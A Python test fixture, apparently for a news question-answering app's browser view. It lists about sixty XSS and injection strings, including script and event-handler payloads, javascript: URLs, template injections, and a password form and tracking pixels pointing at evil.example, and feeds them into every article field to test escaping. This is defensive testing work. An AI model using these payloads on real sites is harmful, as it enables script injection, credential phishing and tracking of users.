"""Sixty texts that try to be more than text, and a newspaper in which every field is one of them.

Where a text gets through, it sets `window.hacked`, covers the page, or asks evil.example for something.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import date, datetime

from browser.newsstand import Newsstand, answer, hit

from index import Article
from index.passage_index import Only
from qa.types import Answer, Citation, Searched

EVIL = "https://evil.example"
TEXTS = (
    # scripts, and elements that run them
    "<script>window.hacked=1</script>",
    f"<script src={EVIL}/x.js></script>",
    "</script><script>window.hacked=1</script>",
    "</textarea></title></style><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    '<img src="x" onerror="window.hacked=1" alt="báo">',
    "<svg onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1><summary>mở</summary></details>",
    "<input autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=1 onerror=window.hacked=1>'>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=javascript:window.hacked=1></object>",
    "<embed src=javascript:window.hacked=1>",
    "<template><script>window.hacked=1</script></template>",
    "<custom-element onclick=window.hacked=1>bấm</custom-element>",
    # out of an attribute or an element
    '"><img src=x onerror=window.hacked=1>',
    "'><script>window.hacked=1</script>",
    '" onmouseover="window.hacked=1" x="',
    "' autofocus onfocus='window.hacked=1",
    "]]><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script><!--",
    "</q></blockquote></div></div></div><h1>Đề mục giả</h1>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &amp;lt; &#60;b&#62; &nbsp;",
    # overlays, forms, tracking, and what changes the whole page
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>Trang này đã đổi địa chỉ</div>",
    "<style>body{display:none}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<form action={EVIL}><input name=password type=password><button>Đăng nhập</button></form>",
    f"<img src={EVIL}/pixel.gif width=1 height=1>",
    f"<img srcset='{EVIL}/a.png 1x'><picture><source srcset={EVIL}/b.png></picture>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio><link rel=prefetch href={EVIL}/y>",
    f"<p style='background:url({EVIL}/bg.png)'>nền</p>",
    # addresses that do something
    "javascript:window.hacked=1",
    "JaVaScRiPt&colon;window.hacked=1",
    "java\tscript:window.hacked=1",
    "data:text/html,<script>parent.hacked=1</script>",
    "vbscript:msgbox(1)",
    f"//evil.example/a {EVIL}/x?q=<b>&y=1#z",
    "<a href=javascript:window.hacked=1>bấm đây</a>",
    # Markdown
    f"![ảnh]({EVIL}/pixel.png) **đậm** _nghiêng_ `mã`",
    f'[bấm đây](javascript:window.hacked=1) [b]({EVIL} "c")',
    f"<{EVIL}/auto> {EVIL}/auto www.evil.example ai@evil.example",
    f"# Đề mục\n- mục\n1. một\n> trích\n\n[x]: {EVIL}/x",
    "| a | b |\n|---|---|\n| 1 | <img src=x onerror=window.hacked=1> |",
    "```mermaid\ngraph TD; A-->B; click A call alert()\n```",
    "    mã thụt vào\n***\n~~bỏ~~ :tada: ==tô==",
    # LaTeX and templates
    r"$$\href{javascript:window.hacked=1}{x}$$ $x^2$ \(y\) \[z\]",
    r"$\unicode{x3c}script$ \includegraphics{https://evil.example/x.png}",
    "${window.hacked=1} ${alert(1)} `${window.hacked=1}`",
    "{{constructor.constructor('window.hacked=1')()}} {{{value}}} {% include x %} <%= 1 %>",
    "{value} {0} {__class__} %(x)s %s #{1+1} @{x}",
    # characters that reorder, hide, count as nothing or as a lot
    "\u202egpj.exe\u202c \u2066ẩn\u2069 a\u200bb\u00adc\ufeffd",
    "dòng một\u2028dòng hai\u2029dòng ba\x0b\x0cdòng bốn",
    "\x00\x07\x1b[31mđỏ\x1b[0m\x7f\x85",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20 + "algo",
    "＜script＞window.hacked=1＜/script＞ ‹b› \\u003cscript\\u003e %3Cscript%3E ﷽",
)


def harmless(text: str) -> str:
    """A text of lines as long that tries nothing."""
    return re.sub(r"[^\n]", "ă", text)


@dataclass(frozen=True, kw_only=True)
class Gazette(Newsstand):
    """A newspaper of one article for each text, which is its title, author, outlet, address, file name and body."""

    texts: tuple[str, ...] = TEXTS
    articles: Mapping[str, Article] = field(default_factory=dict)

    def __post_init__(self) -> None:
        made = [
            Article(
                article_id=f"{number}/{text}",
                path=f"{text}.txt",
                text=f"{text}\nhết",
                title=text,
                outlet=text,
                author=text,
                published=datetime(2024, 1, 2),
                url=text,
            )
            for number, text in enumerate(self.texts)
        ]
        object.__setattr__(self, "articles", {article.article_id: article for article in made})

    def ask(self, text: str, k: int = 5, only: Only | None = None) -> Answer:
        """Every article is cited and listed."""
        articles = [article for article in self.articles.values() if only is None or only(article)]
        citations = tuple(Citation(each, 0, len(each.text), each.text, 0.9) for each in articles)
        hits = tuple(hit(each, rank) for rank, each in enumerate(articles, 1))
        return answer(text, citations, hits, Searched(len(articles), date(2024, 1, 2), date(2024, 1, 2)))
